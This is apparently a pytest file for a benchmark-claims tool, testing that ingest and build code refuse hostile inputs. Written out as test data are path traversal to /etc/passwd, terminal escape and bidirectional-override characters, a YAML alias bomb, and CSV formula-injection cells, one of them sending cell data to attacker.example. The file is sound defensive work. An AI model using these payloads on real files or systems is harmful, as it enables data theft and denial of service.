"""Hostile moments II, the inputs: no name, number or path escapes.

* ingest and the tidy reader keep one set of rules (``claimbook.inputs.rules``): a result out of
  range, a system of no node, accelerators counted 0 where one is named, units and direction
  that disagree, a repeated key or ``Location``, control and bidirectional-override characters
  are one line naming the file and the line;
* ``diff`` compares every column a verdict reads (``higher_is_better`` among them);
* an id the book uses for its own pages, files or folders, or a chapter's, is refused as the
  registry is read (one list: ``claimbook.common.paths.RESERVED_NAMES``, which a test holds to
  every file the build writes);
* a path from a chapter's parameters or a ``--param`` stays inside the project, and an error
  never quotes a refused file;
* only regular files are copied from the project;
* what reaches a terminal (``check``, ``list``) is shown escaped, and a scorecard with junk in
  it is one line.
"""

from __future__ import annotations

import json
import math
import os
from pathlib import Path

import pandas as pd
import pytest
import yaml

from claimbook.claims.registry import RegistryError
from claimbook.common.paths import GENERATED_FILES, RESERVED_NAMES
from claimbook.inputs.csvfile import IngestError
from claimbook.inputs.ingest import ingest, ingest_warnings
from claimbook.inputs.results import ResultsError, load_results
from tests.helpers.clirun import in_process
from tests.helpers.errors import one_error_line
from tests.helpers.project import ROOT
from tests.helpers.summaries import summary_row, write_summary

COMMITTED = ROOT / "data" / "mlperf" / "v6.1.csv"


# ---------------------------------------------------------------------------------------------
# One set of rules: ingest


def _two_rows(**second) -> list[dict]:
    return [summary_row(), summary_row(**{"Scenario": "Server", **second})]


INGEST_REFUSES = {
    "a Location shared by two results": (  # (another result only by its organization's letter case)
        {"Organization": "ACME", "Scenario": "Offline", "Location": summary_row()["Location"]},
        (
            "Location './closed/Acme/results/GB300-NVL72_GB300-288GB_aarch64x72_TRT/deepseek-r1/Offline/"
            "performance/run_1' is also that of line 2; a Location names one result"
        ),
    ),
    "two units for one model and scenario": (
        {"Scenario": "Offline", "system": "other", "Units": "Samples/s"},
        "Units 'Samples/s', where the result of deepseek-r1 Offline at line 2 is in 'Tokens/s'",
    ),
    "a Location of another organization": (
        {"Location": summary_row()["Location"].replace("/Acme/", "/Rival/")},
        "is the folder of organization 'Rival', not of the row's Organization 'Acme'",
    ),
    "no node": ({"number_of_nodes": "0", "total_accelerators": "0"}, "number_of_nodes is 0"),
    "a huge result": ({"Result": "1e30"}, "Result is 1e+30; a result must be a finite number from"),
    "a result just past the largest": (
        {"Result": "10000000001"},
        "Result is 10,000,000,001; a result must be a finite number from 0.0001 to 10,000,000,000",
    ),
    "a tiny result": ({"Result": "1e-30"}, "Result is 1e-30; a result must be a finite number from"),
    "a denormal result": ({"Result": "5e-324"}, "Result is 4.94066e-324"),
    "an ESC sequence in a name": ({"Organization": "Acme\x1b[2J"}, "Organization holds the character \\x1b"),
    "a bidirectional override": ({"SystemName": "\u202eAcme"}, "SystemName holds the character \\u202e"),
    "a million nodes and more": (
        {"number_of_nodes": "1000001", "accelerators_per_node": "1", "total_accelerators": "1000001"},
        "1000001 node(s) of 1 accelerator(s) each is not a system's size",
    ),
    # A Location is a path in MLCommons' results repository that the book links to: nothing in
    # it may lead a reader's browser out of that repository (issue 41).
    "a Location that climbs out of the repository": (
        {
            "Location": "./closed/../../../../../attacker/fake/tree/main/closed/AMD/results/SYSTEM/m/Offline/performance/run_1"
        },
        "has a '..' segment",
    ),
    "an absolute Location": ({"Location": "/closed/Acme/results/S/m/Offline"}, "is an absolute path"),
    "a Location with a backslash": (
        {"Location": "./closed/Acme/results/S\\..\\..\\x/m/Offline"},
        "holds a backslash",
    ),
    "a Location with an empty segment": (
        {"Location": "./closed//results/S/m/Offline"},
        "has an empty segment",
    ),
    "a system folder found anywhere but its place": (
        {"Location": "./attacker/fake/tree/main/closed/Acme/results/S/m/Offline/performance/run_1"},
        "is not a result's folder (DIVISION/ORGANIZATION/results/SYSTEM/MODEL/SCENARIO",
    ),
}


@pytest.mark.parametrize("case", list(INGEST_REFUSES), ids=list(INGEST_REFUSES))
def test_ingest_refuses_a_bad_value_naming_the_line(case, tmp_path):
    second, message = INGEST_REFUSES[case]
    path = write_summary(tmp_path / "summary.csv", _two_rows(**second))
    with pytest.raises(IngestError) as refused:
        ingest(path, "v6.1")
    said = str(refused.value)
    assert said.startswith(f"{path}, line 3: ") and "\n" not in said, said
    assert message in said, said
    assert "\x1b" not in said and "\u202e" not in said  # shown escaped, even in the error


def test_a_cpu_only_system_and_zero_width_characters_are_accepted(tmp_path):
    rows = _two_rows(
        accelerator_model_name="N/A", accelerators_per_node="0", total_accelerators="0", number_of_nodes="1"
    )
    rows[0]["SystemName"] += "\u200b"
    table = ingest(write_summary(tmp_path / "summary.csv", rows), "v6.1")
    assert table["total_accelerators"].tolist() == [72, 0]


def test_accelerators_counted_0_where_one_is_named_are_kept_with_a_warning(tmp_path):
    # MLCommons publishes integrated GPUs so (v5.1: an Intel Arc with a# 0): data, never a refusal.
    path = write_summary(
        tmp_path / "summary.csv", _two_rows(accelerators_per_node="0", total_accelerators="0")
    )
    table = ingest(path, "v6.1")
    assert table["total_accelerators"].tolist() == [72, 0] and table["per_accelerator"].isna().tolist() == [
        False,
        True,
    ]
    (warning,) = ingest_warnings(table, path)
    assert "1 result of" in warning and "'NVIDIA GB300'" in warning and "count 0" in warning


# ---------------------------------------------------------------------------------------------
# One set of rules: the tidy reader


def _edited_table(how) -> pd.DataFrame:
    table = pd.read_csv(COMMITTED, keep_default_na=False, dtype=str)
    how(table)
    return table


def _set(column, value, rows=slice(3, 4)):
    def how(table):
        table.loc[table.index[rows], column] = value

    return how


def _flip_direction(table):
    system = table["system"] == table["system"].iloc[3]
    table.loc[system, "higher_is_better"] = table.loc[system, "higher_is_better"].map(
        {"True": "False", "False": "True"}
    )


def _repeat_key(table):
    """The row before, again (the same key, the same Location)."""
    table.iloc[4] = table.iloc[3]


def _repeat_location(table):
    """Another system's result with the Location of the row before (the folder it names agrees
    with the row's division, organization, model and scenario; only its system differs)."""
    table.iloc[4] = table.iloc[3]
    table.loc[table.index[4], "system"] = table["system"].iloc[3] + "-other"


# The first row of the committed table whose model and scenario an earlier row has too.
_SECOND_OF_A_KIND = int(
    pd.read_csv(COMMITTED, keep_default_na=False, dtype=str)
    .duplicated(["model", "scenario"])
    .to_numpy()
    .nonzero()[0][0]
)


def _another_unit(table):
    """That row's figure in another unit of the same metric (the direction and metric agree)."""
    unit = table["units"].iloc[_SECOND_OF_A_KIND]
    others = ("Latency (ms)", "Latency (s)") if unit.startswith("Latency") else ("Queries/s", "Samples/s")
    table.loc[table.index[_SECOND_OF_A_KIND], "units"] = next(other for other in others if other != unit)


TIDY_REFUSES = {
    "a result of -inf": (_set("result", "-inf"), 5, "result is -inf"),
    "a negative result": (_set("result", "-3.5"), 5, "result is -3.5"),
    "a result of nan": (_set("result", "nan"), 5, "result is 'nan', not a finite number"),
    "a per-accelerator figure of nan": (_set("per_accelerator", "nan"), 5, "per_accelerator is 'nan'"),
    "a GPU power of inf": (_set("gpu_watts", "inf"), 5, "gpu_watts is inf; a stated GPU power is above 0"),
    "a GPU power of 0": (_set("gpu_watts", "0"), 5, "gpu_watts is 0.0; a stated GPU power is above 0"),
    "a count past 64 bits": (
        _set("nodes", "9" * 20),
        5,
        "nodes is '99999999999999999999', not a whole number",
    ),
    "a flag with a space": (_set("has_power", " True"), 5, "has_power is ' True', not True or False"),
    "a negative count of nodes": (_set("nodes", "-1"), 5, "nodes is -1; a system has at least one node"),
    "a total that is not nodes times accelerators": (
        _set("total_accelerators", "7"),
        5,
        "total_accelerators is 7",
    ),
    "a direction against its units": (
        _flip_direction,
        None,
        "higher_is_better is False but Samples/s is better higher",
    ),
    "a repeated key": (_repeat_key, 6, "duplicate result for"),
    "a repeated Location": (_repeat_location, 6, "is also that of line 5; a Location names one result"),
    "a Location of another scenario": (
        _set("scenario", "Server", slice(4, 5)),
        6,
        "not of the row's scenario 'Server'; a Location names the result's own folder",
    ),
    "two units for one model and scenario": (
        _another_unit,
        _SECOND_OF_A_KIND + 2,
        "; one model's scenario is measured in one unit",
    ),
    "an ESC sequence": (_set("organization", "AMD\x1b[31m"), 5, "organization holds the character \\x1b"),
    "a Location with '..' segments": (
        _set(
            "location",
            "./closed/../../../../../attacker/fake/tree/main/closed/AMD/results/SYSTEM/m/Offline/performance/run_1",
        ),
        5,
        "location './closed/../",
    ),
    "a Location out of its place": (
        _set("location", "./attacker/fake/tree/main/closed/AMD/results/S/m/Offline"),
        5,
        "is not a result's folder",
    ),
}


@pytest.mark.parametrize("case", list(TIDY_REFUSES), ids=list(TIDY_REFUSES))
def test_the_tidy_reader_keeps_the_rules_of_ingest(case, tmp_path):
    how, line, message = TIDY_REFUSES[case]
    path = tmp_path / "v6.1.csv"
    table = _edited_table(how)
    table.to_csv(path, index=False, lineterminator="\n")
    if line is None:  # the first row of the system whose rows changed
        line = int((table["system"] == table["system"].iloc[3]).to_numpy().nonzero()[0][0]) + 2
    with pytest.raises(ResultsError) as refused:
        load_results(path)
    said = str(refused.value)
    assert said.startswith(f"{path}, line {line}: ") and "\n" not in said and message in said, said


def test_a_location_is_read_in_both_shapes_mlcommons_writes():
    """summary.csv writes ``./closed/ORG/results/SYSTEM/MODEL/SCENARIO/performance/run_1``, the
    JSON summary of earlier rounds ``closed/ORG/results/SYSTEM/MODEL/SCENARIO``: both are a
    result's folder, and the link to it is built from the checked segments only."""
    from claimbook.inputs.rules import location_parts, location_problem
    from claimbook.present.blocks import provenance_url

    csv_shape = "./closed/AMD/results/8xMI355X_2xEPYC/llama2-70b-99/Offline/performance/run_1"
    json_shape = "closed/AMD/results/8xMI355X_2xEPYC/llama2-70b-99/Offline"
    for location in (csv_shape, json_shape):
        assert location_problem(location) is None, location
        assert location_parts(location)[:6] == (
            "closed",
            "AMD",
            "results",
            "8xMI355X_2xEPYC",
            "llama2-70b-99",
            "Offline",
        )
    assert provenance_url("v5.1", json_shape) == (
        "https://github.com/mlcommons/inference_results_v5.1/tree/main/" + json_shape
    )
    for spoof in (
        INGEST_REFUSES["a Location that climbs out of the repository"][0]["Location"],
        "closed/AMD/results/S/m/Offline/..",
        "closed/AMD/results/S/m/./Offline",
        "../closed/AMD/results/S/m/Offline",
        "closed/AMD/results/S/m",
        "",
    ):
        assert location_parts(spoof) is None and location_problem(spoof), spoof
        with pytest.raises(ValueError, match="not a result's folder"):
            provenance_url("v6.1", spoof)


def test_a_scorecard_links_only_whole_checked_locations():
    """The ledger reads the results a claim rests on from the scorecard's ``evidence`` (an input
    too): each Location whole (a folder's name may hold a space) and only one that is a result's
    folder."""
    from claimbook.present.markdown_pages import evidence_locations

    spaced = "./closed/Naeem Khoshnevis/results/H200/llama3.1-8b/Offline/performance/run_1"
    spoof = INGEST_REFUSES["a Location that climbs out of the repository"][0]["Location"]
    assert evidence_locations(f"{spaced}; {spoof}; closed/A/results/S/m/Server") == [
        spaced,
        "closed/A/results/S/m/Server",
    ]


def test_the_committed_table_keeps_every_rule():
    assert len(load_results(COMMITTED)) > 0


def test_diff_compares_the_direction_of_a_result(committed_results):
    from claimbook.inputs.diff import diff_results, format_diff

    flipped = committed_results.copy()
    system = flipped["system"] == flipped["system"].iloc[3]
    flipped.loc[system, "higher_is_better"] = ~flipped.loc[system, "higher_is_better"]
    table = diff_results(committed_results, flipped)
    assert len(table) == system.sum() and set(table["fields"]) == {"higher_is_better"}, table
    assert "no differences" not in format_diff(table)
    assert "higher_is_better: 'True' -> 'False'" in format_diff(table)


# ---------------------------------------------------------------------------------------------
# Names the book uses for its own files


def _registry(tmp_path, announcement_id="acme-v6.1", claim_id="acme-figure", chapters=None):
    from claimbook.engine import load_registry

    folder = tmp_path / "claims"
    folder.mkdir(exist_ok=True)
    header = {
        "id": announcement_id,
        "title": "T",
        "publisher": "Acme",
        "claimant": "Acme",
        "vendor": "Acme",
        "date": "2026-09-18",
        "round": "v6.1",
    }
    claim = {
        "id": claim_id,
        "statement": "s",
        "kind": "figure",
        "benchmark": "gpt-oss-120b",
        "scenarios": ["Offline"],
        "claimed": 1.0,
        "subject": {"organization": "Acme"},
    }
    (folder / "acme.yaml").write_text(yaml.safe_dump({"announcement": header, "claims": [claim]}))
    chapters_file = tmp_path / "chapters.yaml"
    chapters_file.write_text(yaml.safe_dump(chapters if chapters is not None else {}))
    return load_registry(folder, chapters_file)


@pytest.mark.parametrize(
    "name", ["front", "caveats", "kinds", "scorecard", "cache", "costs", "round", "index"]
)
def test_an_announcement_named_as_the_book_s_own_file_is_refused(tmp_path, name):
    with pytest.raises(RegistryError, match=f"field announcement.id: '{name}' is a name the book gives"):
        _registry(tmp_path, announcement_id=name)


def test_an_announcement_or_a_claim_named_as_a_chapter_is_refused(tmp_path):
    chapters = {"explorer": {"title": "X", "template": "notebooks/explorer.ipynb", "parameters": {}}}
    with pytest.raises(RegistryError, match="'explorer' is the name of a chapter"):
        _registry(tmp_path, announcement_id="explorer", chapters=chapters)
    with pytest.raises(RegistryError, match="field id: 'explorer' is the name of a chapter"):
        _registry(tmp_path, claim_id="explorer", chapters=chapters)
    chapters["front"] = chapters.pop("explorer")
    with pytest.raises(RegistryError, match="chapter front: 'front' is a name the book gives"):
        _registry(tmp_path, chapters=chapters)


@pytest.mark.parametrize(
    "written, field",
    [
        ('    title: "Acme \\u202eup to 9x"\n', "announcement.title"),  # a YAML escape, as parsed
        ("    title: Acme \u2067up to 9x\n", "announcement.title"),
        ('    "note\\x1b[31m": x\n', "announcement.note\\x1b[31m"),
    ],
)
def test_a_registry_text_holding_a_control_or_an_override_is_refused(tmp_path, written, field):
    from claimbook.claims.registry import read_registry_file

    path = tmp_path / "acme.yaml"
    header = "announcement:\n    id: acme\n" + written
    rest = (
        "    publisher: Acme\n    claimant: Acme\n    vendor: Acme\n    date: '2026-09-18'\n    round: v6.1\n"
    )
    path.write_text(header + rest + "claims: []\n", encoding="utf-8")
    with pytest.raises(RegistryError) as raised:
        read_registry_file(path, str(path))
    assert str(raised.value).startswith(f"{path}: field {field}: holds the character "), str(raised.value)
    assert "\n" not in str(raised.value)


def test_the_reserved_names_cover_every_file_the_build_writes():
    """What the committed book's generated folder holds, beside the pages of announcements and
    chapters, is in the one list (and the list names nothing the build does not write there)."""
    from claimbook.engine import load_registry

    registry = load_registry()
    generated = ROOT / "book" / "generated"

    def page(path: Path) -> str:  # an announcement's page or folder, a chapter's page
        return path.name.removesuffix(".md").removesuffix(".ipynb")

    ours = {
        path.name
        for path in generated.iterdir()
        if page(path) not in registry.announcements
        and page(path) not in registry.chapters
        and not path.name.startswith(".")
    }
    assert ours == set(GENERATED_FILES), ours ^ set(GENERATED_FILES)
    assert {name.split(".")[0] for name in ours} <= RESERVED_NAMES


# ---------------------------------------------------------------------------------------------
# Paths from data and parameters


def _apply(text):
    from claimbook.claims.params import apply
    from claimbook.engine import SPECS, load_registry

    return apply([text], load_registry(), SPECS, ROOT)


@pytest.mark.parametrize(
    "value, message",
    [
        ("/etc/passwd", "'/etc/passwd' is not a path inside the book's folder"),
        ("../../etc/passwd", "is not a path inside the book's folder"),
        ("data/prices", "no such file in"),
        ("data/prices/none.csv", "no such file in"),
    ],
)
def test_a_param_path_stays_inside_the_project(value, message):
    from claimbook.claims.params import ParamError

    with pytest.raises(ParamError) as refused:
        _apply(f"economics.prices_path={value}")
    assert message in str(refused.value) and "root:" not in str(refused.value), refused.value


def test_a_param_path_inside_the_project_is_taken():
    chapters, _, _ = _apply("economics.prices_path=data/prices/gpu_hour_prices.csv")
    assert chapters["economics"]["prices_path"] == "data/prices/gpu_hour_prices.csv"


def test_a_chapter_s_path_in_the_registry_is_relative(tmp_path):
    chapters = {
        "economics": {
            "title": "E",
            "template": "notebooks/economics.ipynb",
            "parameters": {"prices_path": "/etc/passwd"},
        }
    }
    with pytest.raises(
        RegistryError, match="field parameters.prices_path: '/etc/passwd' is not a path inside"
    ):
        _registry(tmp_path, chapters=chapters)


@pytest.mark.parametrize(
    "parameters, said",
    [
        (
            {"price_range": [40, 2]},
            "field parameters.price_range: price_range [40, 2]: two prices per GPU-hour",
        ),
        ({"price_range": [2, "x"]}, "field parameters.price_range: price_range [2, 'x']: two prices"),
        ({"assumed_prices": {"NVIDIA GB300": 0}}, "the assumed price for NVIDIA GB300 must be a number from"),
        (
            {"assumed_prices": {"NVIDIA GB300": 1e9}},
            "must be a number from 0.01 to 1,000,000 USD per GPU-hour, got 1000000000.0",
        ),
        ({"assumed_prices": {"NVIDIA GB300": None}}, "USD per GPU-hour, got null"),
        ({"assumed_prices": {"NVIDIA GB300": 0.000001}}, "got 1e-06"),
        ({"assumed_prices": None}, "assumed_prices: a mapping of accelerator names"),
        ({"price_range": [1, "5e3"]}, "('5e3' is text: YAML reads a number with an exponent only with a dot"),
        (
            {"assumed_prices": [1]},
            "field parameters.assumed_prices: assumed_prices: a mapping of accelerator",
        ),
        ({"new_system": None}, "field parameters.new_system: a system, {organization: ..., system: ...}"),
        ({"baseline_system": {"organization": "NVIDIA"}}, "field parameters.baseline_system: a system"),
        ({"pricing_kind": None}, "field parameters.pricing_kind: the pricing of the price table to use"),
    ],
)
def test_a_chapter_s_prices_in_the_registry_are_prices(tmp_path, parameters, said):
    """A chapter's price range and assumed prices are checked as the chapters file is read, not
    in its page after the build began."""
    chapters = {
        "economics": {"title": "E", "template": "notebooks/economics.ipynb", "parameters": parameters}
    }
    with pytest.raises(RegistryError) as raised:
        _registry(tmp_path, chapters=chapters)
    assert "chapter economics: " in str(raised.value) and said in str(raised.value), str(raised.value)


@pytest.mark.parametrize("title", [[1, 2], {"a": 1}, 12])
def test_a_chapter_s_title_is_text(tmp_path, title):
    chapters = {"economics": {"title": title, "template": "notebooks/economics.ipynb"}}
    with pytest.raises(RegistryError, match="chapter economics: field title: the page's title, as text"):
        _registry(tmp_path, chapters=chapters)


def test_an_error_never_quotes_a_refused_file(tmp_path):
    secret = tmp_path / "secrets.csv"
    secret.write_text("root:x:0:0:root:/root:/bin/bash\nuser:x:1000:1000::/home/user:/bin/sh\n")
    for args in (("ingest", secret), ("ingest-prices", secret), ("diff", secret, COMMITTED)):
        done = in_process(*args, cwd=tmp_path)
        one_error_line(done, code=2)
        assert "root:" not in done.stderr and "/bin/" not in done.stderr, done.stderr
    (tmp_path / "secrets.json").write_text('{"password": "hunter2"}\n')
    done = in_process("ingest", tmp_path / "secrets.json", cwd=tmp_path)
    assert done.returncode == 2 and "hunter2" not in done.stderr and "JSON" in done.stderr, done.stderr


# ---------------------------------------------------------------------------------------------
# Only regular files are copied


def test_only_regular_files_are_copied(tmp_path):
    from claimbook.common.files import copy_regular, copy_regular_tree
    from claimbook.common.safe_read import InputError

    source = tmp_path / "source"
    (source / "inner").mkdir(parents=True)
    (source / "a.yaml").write_text("a: 1\n")
    (source / "inner" / "b.csv").write_text("b\n1\n")
    (source / "zero").symlink_to("/dev/zero")
    (source / "null.yaml").symlink_to("/dev/null")
    os.mkfifo(source / "pipe")
    (source / "loop").symlink_to(source)  # a link to a folder: never followed
    (source / "linked.csv").symlink_to(source / "inner" / "b.csv")
    copied = copy_regular_tree(source, tmp_path / "copy")
    assert copied == ["a.yaml", "linked.csv", "inner/b.csv"], copied
    assert sorted(path.name for path in (tmp_path / "copy").iterdir()) == ["a.yaml", "inner", "linked.csv"]
    with pytest.raises(InputError, match="not a regular file"):
        copy_regular(source / "zero", tmp_path / "zero-copy")
    assert not (tmp_path / "zero-copy").exists()


def test_a_link_out_of_the_project_never_reaches_the_site(tmp_path):
    """A link in ``book/`` to a file outside the project (a pull request can carry one) is
    refused as the book's sources are copied, by a build and by the preview alike, in one line
    naming the link; nothing of its target is copied. A link to a file inside the project is
    followed as before."""
    from claimbook.common.safe_read import InputError
    from claimbook.pipeline.staging import copy_sources

    root = tmp_path / "project"
    (root / "book" / "_static").mkdir(parents=True)
    (root / "_config.yml").write_text("title: t\n")
    (root / "book" / "index.md").write_text("# t\n")
    (root / "notes.css").write_text("p {}\n")
    (root / "book" / "_static" / "own.css").symlink_to(root / "notes.css")
    secret = tmp_path / "outside" / "passwd"
    secret.parent.mkdir()
    secret.write_text("root:x:0:0:root:/root:/bin/bash\n")
    (root / "book" / "_static" / "passwd.txt").symlink_to(secret)
    with pytest.raises(InputError) as refused:
        copy_sources(root, tmp_path / "staging", with_data=False)
    said = str(refused.value)
    assert "\n" not in said and said.startswith(
        "book/_static/passwd.txt: a link to a file outside the project"
    )
    assert "root:" not in said, said
    assert not (tmp_path / "staging" / "book" / "_static" / "passwd.txt").exists()
    (root / "book" / "_static" / "passwd.txt").unlink()
    copy_sources(root, tmp_path / "staging", with_data=False)
    assert (tmp_path / "staging" / "book" / "_static" / "own.css").read_text() == "p {}\n"
    (root / "_config.yml").unlink()
    (root / "_config.yml").symlink_to(secret)
    with pytest.raises(InputError, match="^_config.yml: a link to a file outside the project"):
        copy_sources(root, tmp_path / "staging-2", with_data=False)


# ---------------------------------------------------------------------------------------------
# What reaches a terminal


def test_check_shows_text_from_results_escaped():
    from claimbook.quickcheck import text

    report = {
        "claim": "c",
        "announcement": "a",
        "verdict": "supported",
        "statement": "s",
        "rows": [],
        "results": [
            {
                "organization": "Evil\x1b]0;pwned\x07",
                "system": "\u202eSYS",
                "model": "m",
                "scenario": "Offline",
                "location": "./x",
            }
        ],
    }
    shown = text(report)
    assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown
    assert "Evil\\x1b]0;pwned\\x07 \\u202eSYS" in shown


def _scorecard_book(tmp_path, edit) -> Path:
    rows = json.loads((ROOT / "book" / "generated" / "scorecard.json").read_text())
    edit(rows)
    folder = tmp_path / "book" / "generated"
    folder.mkdir(parents=True)
    (folder / "scorecard.json").write_text(json.dumps(rows))
    return tmp_path


@pytest.mark.parametrize(
    "edit, said",
    [
        (lambda rows: rows[0].update(verdict=None), "row 1: verdict None is not a verdict"),
        (
            lambda rows: rows[2].update(verdict="\x1b[31mjunk"),
            "row 3: verdict '\\x1b[31mjunk' is not a verdict",
        ),
        (lambda rows: rows[1].update(range=["a"]), "row 2: its claim and range are not text"),
        (lambda rows: rows[0].pop("reason"), "not a scorecard this book can read"),
    ],
)
def test_list_of_a_scorecard_with_junk_is_one_line(tmp_path, edit, said):
    book = _scorecard_book(tmp_path, edit)
    done = in_process("list", "--book", book)
    one_error_line(done, said, code=2)
    assert "\x1b" not in done.stderr, done.stderr


def test_terminal_text_escapes_controls_and_overrides_only():
    from claimbook.common.identifiers import terminal_text

    assert terminal_text("a\tb\x1b[0m\u2066c\u200bd é") == "a\\x09b\\x1b[0m\\u2066c\u200bd é"
    assert not math.isnan(float(terminal_text("1.5")))


def test_a_sum_that_lists_one_system_twice_is_a_registry_error(tmp_path):
    """Under two of its names (its id and its SystemName): the result would count twice."""
    from claimbook.common.errors import UsageError
    from claimbook.pipeline.load import check_selections
    from tests.helpers.enginekit import result, world

    rows = [
        result("Acme", "rack", "Offline", 100.0, system_name="Acme Rack"),
        result("Acme", "node", "Offline", 10.0),
    ]
    claim = {
        "id": "summed",
        "statement": "s",
        "kind": "figure",
        "benchmark": "gpt-oss-120b",
        "scenarios": ["Offline"],
        "claimed": 200.0,
        "subject": {"sum": [{"system": "rack", "count": 1}, {"system": "Acme Rack", "count": 1}]},
    }
    data = world(tmp_path, rows, [claim])
    with pytest.raises(UsageError, match=r"claim summed: field subject.sum: items 0 and 1 both select"):
        check_selections(data)
    claim["subject"]["sum"][1] = {"system": "node", "count": 2}
    check_selections(world(tmp_path, rows, [claim]))  # two systems: a sum


# ---------------------------------------------------------------------------------------------
# What a spreadsheet opens


def test_a_download_never_carries_a_formula_and_the_tidy_table_keeps_its_values(tmp_path):
    """A published name such as ``=HYPERLINK(...)`` goes through ingest as is (it is the name);
    every CSV the book offers for download writes a cell a spreadsheet would run (``=``, ``+``,
    ``-``, ``@``) as text, with a ``'`` before it (OWASP's CSV injection rule). A number is no
    formula: negative numbers, signed gaps and number columns are written as they are."""
    import csv

    from claimbook.common.spreadsheet import safe_cell, safe_frame
    from claimbook.pipeline.assemble import write_download

    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Acme")'
    for cell in (formula, "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", "-x"):
        assert safe_cell(cell) == "'" + cell, cell
    for cell in ("-3.5", "-12.5%", "+1", "1e-30", "Acme", "", "a=b"):
        assert safe_cell(cell) == cell, cell
    frame = pd.DataFrame(
        {"organization": [formula, "Acme"], "gap": [-0.125, 2.0], "text_gap": ["-12.5%", "x"]}
    )
    safe = safe_frame(frame)
    assert safe["organization"].tolist() == ["'" + formula, "Acme"]
    assert safe["gap"].tolist() == [-0.125, 2.0] and safe["text_gap"].tolist() == ["-12.5%", "x"]
    assert frame["organization"].iloc[0] == formula  # the table itself keeps its value

    table = pd.read_csv(COMMITTED, keep_default_na=False, dtype=str)
    plain = tmp_path / "plain.csv"
    table.to_csv(plain, index=False, lineterminator="\n")
    write_download(plain, tmp_path / "plain-download.csv")
    assert (tmp_path / "plain-download.csv").read_bytes() == plain.read_bytes()
    table.loc[table.index[3], "organization"] = formula
    tidy = tmp_path / "v6.1.csv"
    table.to_csv(tidy, index=False, lineterminator="\n")
    before = tidy.read_bytes()
    write_download(tidy, tmp_path / "round.csv")
    assert tidy.read_bytes() == before
    with open(tmp_path / "round.csv", newline="", encoding="utf-8") as stream:
        rows = list(csv.DictReader(stream))
    assert rows[3]["organization"] == "'" + formula
    assert [row["result"] for row in rows] == table["result"].tolist()
    assert all(not value.startswith(("=", "@")) for row in rows for value in row.values())


@pytest.mark.parametrize("kept", [True, False])  # a document short enough to be parsed once, or not
def test_a_yaml_document_read_twice_is_two_documents_and_a_bad_one_refused_twice(kept, monkeypatch):
    """A build reads each registry twice (once per process it is parsed: a memo of the text);
    each reader gets a document of its own, whatever the other did with theirs, and a bad
    document is refused every time, under the name it was read by."""
    from claimbook.common import safe_read
    from claimbook.common.safe_read import InputError, load_yaml

    if not kept:
        monkeypatch.setattr(safe_read, "KEPT_TEXT", 0)

    text = "claims:\n- id: a\n  scenarios: [Offline]\n  pairs: !!pairs [{k: [1]}]\n  set: !!set {x}\n"
    first = load_yaml(text, "first.yaml")
    first["claims"][0]["scenarios"].append("Server")
    first["claims"][0]["pairs"][0][1].append(2)
    first["claims"][0]["set"].add("y")
    second = load_yaml(text, "second.yaml")
    assert second == {"claims": [{"id": "a", "scenarios": ["Offline"], "pairs": [("k", [1])], "set": {"x"}}]}
    bomb = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{name}: &{name} [*{before}, *{before}, *{before}, *{before}, *{before}, *{before}, *{before}, *{before}, *{before}, *{before}]\n"
        for before, name in zip("abcdef", "bcdefg")
    )
    for label in ("one.yaml", "two.yaml"):
        with pytest.raises(InputError, match=f"^{label}, line"):
            load_yaml(bomb, label)
        with pytest.raises(yaml.YAMLError):
            load_yaml("a: [1, 2\n", label)
